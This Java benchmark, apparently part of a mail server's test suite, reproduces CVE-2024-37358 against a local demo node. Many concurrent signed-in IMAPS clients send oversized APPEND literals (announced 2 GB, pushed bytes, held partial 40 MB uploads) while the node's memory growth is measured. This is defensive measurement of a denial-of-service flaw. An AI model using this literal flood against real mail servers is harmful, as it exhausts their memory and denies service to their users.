package bench;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicLong;

/**
 * CVE-2024-37358 against a fresh demo node, warmed up by the same number of honest connections, in three phases of
 * {@code clients} signed-in IMAPS connections at once: (A) each announces an APPEND literal of 2 GB and waits for the
 * answer; (B) the same, then pushes {@code push} MB of bytes without waiting; (C) each announces a 40 MB literal the
 * node accepts, sends 5 MB of it, and holds. The node's RSS is sampled every 100 ms; each figure is the phase's peak
 * above the RSS just before it.
 */
public final class ImapLiteralAttackBench {
    private ImapLiteralAttackBench() {
    }

    public static void main(String[] args) throws Exception {
        Path jar = Path.of(args[0]);
        int clients = Integer.parseInt(args[1]);
        int pushMb = Integer.parseInt(args[2]);
        try (DemoNode node = DemoNode.start(jar, "bench-imap-literal")) {
            ExecutorService pool = Executors.newFixedThreadPool(clients);
            // Warm-up: the same number of connections, sign-in, an honest small APPEND, twice.
            for (int round = 0; round < 2; round++) {
                run(pool, clients, n -> {
                    try (ImapClient imap = signedIn(node, n)) {
                        imap.append("INBOX", "Subject: warm-up " + n + "\r\n\r\nbonjour\r\n");
                    }
                    return "ok";
                });
            }
            Thread.sleep(5000);
            long baseline = node.residentKb();
            nativeMemory(node, "baseline");
            AtomicLong peak = new AtomicLong(baseline);
            Thread sampler = new Thread(() -> {
                while (!Thread.currentThread().isInterrupted()) {
                    try {
                        peak.accumulateAndGet(node.residentKb(), Math::max);
                        Thread.sleep(100);
                    } catch (InterruptedException e) {
                        return;
                    } catch (IOException e) {
                        return;
                    }
                }
            });
            sampler.start();

            ConcurrentHashMap<String, Integer> answers = new ConcurrentHashMap<>();
            // A: the announcements alone, all connections at once, each waiting for its answer.
            long before = node.residentKb();
            peak.set(before);
            run(pool, clients, n -> {
                try (ImapClient imap = signedIn(node, n)) {
                    imap.raw("a1 APPEND INBOX {2147483648}\r\n".getBytes(StandardCharsets.US_ASCII));
                    answers.merge("announced: " + imap.nextLine().replaceAll("\\(.*", "").trim(), 1, Integer::sum);
                }
                return "ok";
            });
            Thread.sleep(1000);
            double announcements = (peak.get() - before) / 1024.0;

            // B: the same, then the client pushes its bytes anyway, without waiting.
            before = node.residentKb();
            peak.set(before);
            byte[] chunk = new byte[64 * 1024];
            Arrays.fill(chunk, (byte) 'x');
            run(pool, clients, n -> {
                try (ImapClient imap = signedIn(node, n)) {
                    imap.raw("b1 APPEND INBOX {2147483648}\r\n".getBytes(StandardCharsets.US_ASCII));
                    try {
                        for (long pushed = 0; pushed < pushMb * 1024L * 1024L; pushed += chunk.length) {
                            imap.raw(chunk);
                        }
                    } catch (IOException closedByNode) {
                        // the node may hang up on garbage: that is an answer too
                    }
                    answers.merge("pushed: " + imap.nextLine().replaceAll("\\(.*", "").trim(), 1, Integer::sum);
                }
                return "ok";
            });
            Thread.sleep(1000);
            double pushedGrowth = (peak.get() - before) / 1024.0;

            // C: literals the node accepts (40 MB), 5 MB of each sent, and held.
            before = node.residentKb();
            peak.set(before);
            List<ImapClient> holding = new ArrayList<>();
            byte[] part = new byte[5 * 1024 * 1024];
            Arrays.fill(part, (byte) 'y');
            run(pool, clients, n -> {
                ImapClient imap = signedIn(node, n);
                synchronized (holding) {
                    holding.add(imap);
                }
                imap.raw("h1 APPEND INBOX {41943040}\r\n".getBytes(StandardCharsets.US_ASCII));
                String go = imap.nextLine();
                answers.merge("pending: " + go.substring(0, Math.min(2, go.length())), 1, Integer::sum);
                if (go.startsWith("+")) {
                    imap.raw(part);
                }
                return "ok";
            });
            Thread.sleep(3000);
            double pending = (peak.get() - before) / 1024.0;
            sampler.interrupt();
            sampler.join();
            nativeMemory(node, "summary.diff");
            for (ImapClient imap : holding) {
                imap.close();
            }
            pool.shutdown();
            String how = String.format("%s, %s, %s, %d IMAPS clients at once, node heap %s; peak VmRSS above the RSS before"
                    + " the phase (warmed-up %d MB); answers %s; bash bench/imap-literal-attack.sh %d %d",
                LocalDate.now(), Machine.describe(), DemoNode.database(), clients,
                System.getenv().getOrDefault("NODE_JAVA_OPTS", "JVM default"), baseline / 1024, answers, clients, pushMb);
            System.out.printf("%nimap-literal-attack-rss-growth-mb: %.1f MB (APPEND {2147483648} announced, answer awaited; %s)%n",
                announcements, how);
            System.out.printf("imap-literal-pushed-rss-growth-mb: %.1f MB (APPEND {2147483648} then %d MB pushed without"
                + " waiting; %s)%n", pushedGrowth, pushMb, how);
            System.out.printf("imap-literal-pending-rss-growth-mb: %.1f MB (APPEND {41943040} accepted, 5 MB sent and held; %s)%n",
                pending, how);
        }
    }

    /** With BENCH_NMT=1 (and -XX:NativeMemoryTracking=summary in NODE_JAVA_OPTS): where the node's memory went. */
    private static void nativeMemory(DemoNode node, String what) throws Exception {
        if (!"1".equals(System.getenv("BENCH_NMT"))) {
            return;
        }
        Process jcmd = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "jcmd").toString(),
            String.valueOf(node.process.pid()), "VM.native_memory", what).redirectErrorStream(true).start();
        String out = new String(jcmd.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        jcmd.waitFor();
        if (!what.equals("baseline")) {
            System.out.println(out);
        }
    }

    private interface Client {
        String run(int n) throws Exception;
    }

    private static ImapClient signedIn(DemoNode node, int n) throws IOException {
        ImapClient imap = new ImapClient(node.tls, node.imaps);
        imap.ok("LOGIN \"" + node.address(1) + "\" \"" + node.password(1) + "\"");
        return imap;
    }

    private static void run(ExecutorService pool, int clients, Client client) throws Exception {
        List<Future<String>> running = new ArrayList<>();
        for (int c = 0; c < clients; c++) {
            int n = c;
            running.add(pool.submit(() -> client.run(n)));
        }
        for (Future<String> done : running) {
            done.get();
        }
    }
}
